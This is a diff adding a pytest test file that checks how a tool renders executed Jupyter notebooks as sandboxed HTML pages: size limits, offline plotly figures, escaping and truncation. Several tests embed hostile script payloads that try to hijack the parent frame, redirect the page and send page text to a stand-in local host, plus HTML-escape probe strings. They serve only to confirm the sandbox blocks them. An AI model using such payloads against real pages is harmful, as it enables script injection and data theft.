@@ -1,0 +1,106 @@
+"""Executed notebooks as pages: what they show, and that their scripts stay where they are."""
+
+from pathlib import Path
+
+import nbformat
+import pytest
+from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
+
+from colab_starter.report.notebooks import WORTH_WORKERS, page_of, render_all
+from tests.report.browser import Browser
+
+FIGURE = {"data": [{"type": "scatter", "y": [1, 3, 2], "name": "</script>"}], "layout": {"title": {"text": "Loss"}}}
+
+ATTACK = """
+<script>
+  document.body.dataset.ran = "yes";
+  try { parent.document.title = "taken over"; } catch { document.body.dataset.parent = "out of reach"; }
+  try { localStorage.x = 1; } catch { document.body.dataset.storage = "out of reach"; }
+  try { top.location = "http://127.0.0.1:9/top"; } catch { document.body.dataset.top = "out of reach"; }
+  fetch("http://127.0.0.1:9/fetch").catch(() => { document.body.dataset.network = "out of reach"; });
+  new Image().src = "http://127.0.0.1:9/image";
+  window.open("http://127.0.0.1:9/window");
+</script>
+<form id="f" action="http://127.0.0.1:9/form"></form><script>document.getElementById("f").submit();</script>
+"""
+
+
+def make_page(folder: Path, *cells: nbformat.NotebookNode) -> Path:
+    """The page of a notebook with these cells."""
+    notebook = folder / "lesson.ipynb"
+    nbformat.write(new_notebook(cells=list(cells)), notebook)
+    assert render_all([notebook], folder / "report.html", lambda: None, workers=1) == {}
+    return page_of(notebook)
+
+
+def make_output(mime: str, data: object) -> nbformat.NotebookNode:
+    """A cell with one output."""
+    cell: nbformat.NotebookNode = new_code_cell("1", outputs=[new_output("display_data", data={mime: data})])
+    return cell
+
+
+def test_a_page_is_small_and_shows_the_cells(tmp_path: Path, browser: Browser) -> None:
+    text = new_output("stream", text="\x1b[31mred\x1b[0m\n")
+    page = make_page(tmp_path, new_markdown_cell("# Digits"), new_code_cell("print(1)", outputs=[text]))
+    assert page.stat().st_size < 40_000
+    browser.open(page)
+    browser.wait_until("document.querySelector('h1')", in_frame=True)
+    shown = browser.evaluate("document.body.innerText", in_frame=True)
+    assert all(words in shown for words in ("Digits", "print(1)", "red"))
+    assert (browser.errors, browser.dialogs, browser.requests) == ([], [], [page.as_uri()])
+
+
+def test_plotly_figures_are_drawn_without_a_network(tmp_path: Path, browser: Browser) -> None:
+    cells = [make_output("application/vnd.plotly.v1+json", FIGURE) for _ in range(3)]
+    page = make_page(tmp_path, *cells)
+    assert page.stat().st_size < 3_000_000
+    browser.open(page)
+    browser.wait_until("document.querySelectorAll('.scatterlayer .trace').length === 3", in_frame=True)
+    assert (browser.errors, browser.requests) == ([], [page.as_uri()])
+
+
+def test_scripts_of_a_notebook_run_and_reach_nothing(tmp_path: Path, browser: Browser) -> None:
+    page = make_page(
+        tmp_path, make_output("text/html", ATTACK), new_markdown_cell("<img alt=x src=http://127.0.0.1:9/x>")
+    )
+    browser.open(page)
+    browser.wait_until("document.body.dataset.network", in_frame=True)
+    found = browser.evaluate("({...document.body.dataset})", in_frame=True)
+    assert found == {"ran": "yes", **dict.fromkeys(("parent", "storage", "top", "network"), "out of reach")}
+    assert browser.evaluate("document.title") == "lesson.ipynb: " + tmp_path.name
+    browser.wait_for_requests([page.as_uri()])
+    assert not [address for address in browser.find_pages() if "127.0.0.1" in address]
+
+
+def test_a_notebook_cannot_put_another_page_in_its_place(tmp_path: Path, browser: Browser) -> None:
+    leave = "<script>location = 'http://127.0.0.1:9/elsewhere?' + encodeURIComponent(document.body.innerText)</script>"
+    page = make_page(tmp_path, make_output("text/html", leave))
+    browser.open(page)
+    browser.wait_until("performance.now() > 1500")
+    browser.wait_for_requests([page.as_uri()])
+    assert browser.evaluate("location.href") == page.as_uri()
+
+
+@pytest.mark.parametrize("text", ["</script>", '"><img src=x>', "'", "</iframe>", "&lt;b&gt;"])
+def test_text_outputs_are_escaped(text: str, tmp_path: Path, browser: Browser) -> None:
+    browser.open(make_page(tmp_path, make_output("text/plain", text)))
+    browser.wait_until("document.querySelector('.output_text pre')", in_frame=True)
+    assert browser.evaluate("document.querySelector('.output_text pre').innerText", in_frame=True) == text
+
+
+def test_a_long_output_is_shortened(tmp_path: Path) -> None:
+    page = make_page(tmp_path, new_code_cell("x", outputs=[new_output("stream", text="x" * 5_000_000)]))
+    assert page.stat().st_size < 300_000
+    assert "4,900,000 characters are left out here" in page.read_text()
+
+
+def test_many_notebooks_are_rendered_by_several_processes(tmp_path: Path) -> None:
+    notebooks = [tmp_path / f"{number}.ipynb" for number in range(WORTH_WORKERS)]
+    for notebook in notebooks:
+        nbformat.write(new_notebook(cells=[new_code_cell("1")]), notebook)
+    notebooks[3].write_text("no notebook")
+    steps: list[None] = []
+    failures = render_all(notebooks, tmp_path / "report.html", lambda: steps.append(None), workers=2)
+    assert [*failures] == [notebooks[3]]
+    assert len(steps) == WORTH_WORKERS
+    assert all(page_of(notebook).exists() for notebook in notebooks if notebook not in failures)
